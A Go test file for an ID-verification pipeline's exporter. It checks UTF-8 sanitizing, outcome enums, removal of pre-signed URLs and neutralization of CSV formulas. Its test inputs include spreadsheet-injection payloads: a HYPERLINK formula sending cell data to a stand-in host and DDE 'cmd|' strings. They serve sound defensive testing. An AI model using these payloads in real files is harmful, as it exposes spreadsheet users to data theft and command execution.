package export

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"reflect"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/idbatch/idbatch/export/exporttest"
	"github.com/idbatch/idbatch/pipeline"
)

// hostileRecords are end-state records as a Store written before issue 12
// may hold them: invalid UTF-8 in every kind of string (input, result,
// lists, raw JSON), pre-signed URLs below the top level of the raw result,
// and outcomes outside the enum.
func hostileRecords() []pipeline.Record {
	recs := testRecords()
	bad := "Bad\xff\xfe"

	utf := recs[0] // approved
	utf.Input.ClientID = "c-utf8"
	utf.Input.FirstName = bad
	utf.Input.Extra = map[string]string{"note" + "\xc3": bad}
	utf.Input.Sources = map[pipeline.Side]string{pipeline.SideFront: "s3://legacy/" + bad + ".jpg"}
	res := *utf.Result
	res.DocFirstName, res.DocLastName, res.Overall = bad, "NUL\x00INSIDE", "APPROVED"
	res.FraudTags, res.DuplicateFaces = []string{"OK", "T" + "\x80"}, []string{bad}
	res.Raw = json.RawMessage("{\"final\":true,\"data\":{\"docFirstName\":\"Bad\xff\xfe\"," +
		"\"fileUrls\":{\"FRONT\":\"https://s3/f?X-Amz-Signature=abc\"}},\"AML\":[{\"url\":\"https://s3/x?AWSAccessKeyId=AK\"}]}")
	utf.Result = &res

	active := recs[1] // denied, as stored by a Store that took final:true ACTIVE
	active.Input.ClientID = "c-active"
	active.Outcome = "ACTIVE"
	ares := *active.Result
	ares.Overall = "ACTIVE"
	active.Result = &ares

	formula := recs[2] // suspected, outcome a formula
	formula.Input.ClientID = "c-formula"
	formula.Outcome = `=HYPERLINK("https://evil.example","x")`

	nul := recs[5] // expired, outcome a NUL, overall empty
	nul.Input.ClientID = "c-nul"
	nul.Outcome = "\x00"
	nres := *nul.Result
	nres.Overall = ""
	nul.Result = &nres

	guard := recs[5] // final result whose Store row lacks the outcome
	guard.ID = 20
	guard.Input.ClientID = "c-reviewing"
	guard.Outcome = ""
	gres := *guard.Result
	gres.Overall = "REVIEWING"
	guard.Result = &gres

	failed := recs[4]
	failed.Input.ClientID = "c-failed"
	failed.ErrorMessage = "process: " + bad

	return []pipeline.Record{utf, active, formula, nul, guard, failed}
}

// Findings 1-3 of issue 12, as an analyst sees them: DuckDB reads every
// column of the file, outcome is always in the enum, raw_result is valid
// JSON without pre-signed URLs.
func TestExportHostileRecordsReadableInDuckDB(t *testing.T) {
	t.Parallel()
	dest, root := localDestination(t)
	src := newFakeSource(hostileRecords()...)
	rep, err := newTestExporter(dest).Export(t.Context(), src)
	if err != nil {
		t.Fatal(err)
	}
	if rep.Rows != 6 {
		t.Fatalf("Rows = %d, want 6", rep.Rows)
	}
	rows := exporttest.Query(t, `SELECT *, json_valid(raw_result) AS raw_ok,
		raw_result->>'$.data.docFirstName' AS raw_name, coalesce(raw_result ILIKE '%amz%' OR raw_result ILIKE '%fileurls%' OR raw_result ILIKE '%awsaccesskeyid%', false) AS leaks
		FROM read_parquet(`+exporttest.Quote(root+"/job=*/dt=*/*.parquet")+`) ORDER BY client_id`)
	by := map[string]map[string]any{}
	for _, r := range rows {
		by[r["client_id"].(string)] = r
		if !slices.Contains([]any{"APPROVED", "DENIED", "SUSPECTED", "EXPIRED", "REJECTED", "FAILED"}, r["outcome"]) {
			t.Errorf("%v: outcome %q outside the enum", r["client_id"], r["outcome"])
		}
		if r["leaks"] != false || (r["raw_result"] != nil && r["raw_ok"] != true) {
			t.Errorf("%v: raw_result %q (valid %v)", r["client_id"], r["raw_result"], r["raw_ok"])
		}
	}
	want := map[string]map[string]any{
		"c-utf8": {"outcome": "APPROVED", "doc_first_name": "Bad\uFFFD\uFFFD", "raw_name": "Bad\uFFFD\uFFFD",
			"doc_last_name": "NUL\x00INSIDE", "fraud_tags": []any{"OK", "T\uFFFD"}, "duplicate_faces": []any{"Bad\uFFFD\uFFFD"},
			"source_front": "s3://legacy/Bad\uFFFD\uFFFD.jpg", "extra": `{"note\ufffd":"Bad\ufffd\ufffd"}`, "error_code": nil},
		"c-active":    {"outcome": "FAILED", "error_code": "unexpected_status", "overall_status": "ACTIVE", "final": true},
		"c-formula":   {"outcome": "FAILED", "error_code": "unexpected_status", "overall_status": "SUSPECTED"},
		"c-nul":       {"outcome": "FAILED", "error_code": "unexpected_status", "overall_status": nil},
		"c-reviewing": {"outcome": "FAILED", "error_code": "unexpected_status", "overall_status": "REVIEWING"},
		"c-failed":    {"outcome": "FAILED", "error_code": "MAX_RETRIES", "error_message": "process: Bad\uFFFD\uFFFD"},
	}
	for client, cols := range want {
		for k, w := range cols {
			if got := by[client][k]; !reflect.DeepEqual(got, w) {
				t.Errorf("%s.%s = %#v, want %#v", client, k, got, w)
			}
		}
	}
	wantBy := map[string]int{"APPROVED": 1, "FAILED": 5}
	if !reflect.DeepEqual(rep.ByOutcome, wantBy) {
		t.Errorf("ByOutcome = %v, want %v", rep.ByOutcome, wantBy)
	}
}

// TestRowValidUTF8CoversEveryString sets every string of a Row to invalid
// UTF-8, so that a column added without sanitizing fails here.
func TestRowValidUTF8CoversEveryString(t *testing.T) {
	var row Row
	v := reflect.ValueOf(&row).Elem()
	for i := range v.NumField() {
		switch f := v.Field(i); f.Interface().(type) {
		case string:
			f.SetString("x\xff")
		case []string:
			f.Set(reflect.ValueOf([]string{"ok", "y\xfe"}))
		}
	}
	shared := row.FraudTags
	row.validUTF8()
	for i := range v.NumField() {
		switch x := v.Field(i).Interface().(type) {
		case string:
			if !utf8.ValidString(x) {
				t.Errorf("%s = %q", v.Type().Field(i).Name, x)
			}
		case []string:
			for _, s := range x {
				if !utf8.ValidString(s) {
					t.Errorf("%s = %q", v.Type().Field(i).Name, x)
				}
			}
		}
	}
	if shared[1] != "y\xfe" {
		t.Error("validUTF8 changed a list it does not own")
	}
}

// Finding 4 of issue 12: failures.csv is opened in Excel by compliance
// staff; no value or header may start a formula (OWASP CSV injection).
func TestWriteFailuresCSVNeutralizesFormulas(t *testing.T) {
	recs := testRecords()
	r := recs[3]
	r.Input.ClientID = `=HYPERLINK("https://evil.example/?"&A1,"Click")`
	r.Input.FirstName = "+cmd|' /C calc'!A0"
	r.Input.LastName = "@SUM(1+1)*cmd|' /C calc'!A0"
	r.Input.DateOfBirth = "-2+3"
	r.Input.Country = "\t=1"
	r.Input.DocumentType = "\r=1"
	r.Input.Extra = map[string]string{"=HYPERLINK(\"x\")": "=1+1", "note": " =leading space is not a formula", "n": "42"}
	f := recs[4]
	f.ErrorMessage = "-1 retries left"
	var buf bytes.Buffer
	if err := WriteFailuresCSV(&buf, []pipeline.Record{r, f}); err != nil {
		t.Fatal(err)
	}
	cells, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, row := range cells {
		for j, c := range row {
			if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
				t.Errorf("row %d cell %d starts a formula: %q", i, j, c)
			}
		}
	}
	header, row := cells[0], cells[1]
	col := func(name string) string {
		t.Helper()
		i := slices.Index(header, name)
		if i < 0 {
			t.Fatalf("no column %q in %q", name, header)
		}
		return row[i]
	}
	for name, want := range map[string]string{
		"client_id":        `'=HYPERLINK("https://evil.example/?"&A1,"Click")`,
		"first_name":       "'+cmd|' /C calc'!A0",
		"last_name":        "'@SUM(1+1)*cmd|' /C calc'!A0",
		"date_of_birth":    "'-2+3",
		"country":          "'\t=1",
		"document_type":    "'\r=1",
		`'=HYPERLINK("x")`: "'=1+1",
		"note":             " =leading space is not a formula",
		"n":                "42",
		"state":            "rejected",
		"reject_reason":    "too_small",
		"scan_ref":         "",
		"utility_bill":     "",
		"front":            "s3://legacy/customers/c-rejected/front.jpg",
		"error_code":       "",
		"line":             "5",
		"error_message":    "",
		"face":             "",
		"back":             "",
	} {
		if got := col(name); got != want {
			t.Errorf("%s = %q, want %q", name, got, want)
		}
	}
	if got := cells[2][slices.Index(header, "error_message")]; got != "'-1 retries left" {
		t.Errorf("error_message = %q", got)
	}
}
